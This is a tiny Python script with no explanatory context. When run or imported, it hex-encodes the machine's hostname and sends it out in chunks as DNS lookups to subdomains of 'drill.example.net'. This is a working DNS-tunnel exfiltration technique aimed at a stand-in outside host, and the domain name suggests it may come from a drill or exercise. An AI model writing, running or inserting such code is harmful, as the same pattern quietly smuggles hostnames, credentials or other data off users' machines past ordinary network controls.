import binascii
import socket


def ask():
    who = binascii.hexlify(socket.gethostname().encode()).decode()
    for at in range(0, len(who), 60):
        socket.getaddrinfo('%s.%d.drill.example.net' % (who[at:at + 60], at), 80)


ask()
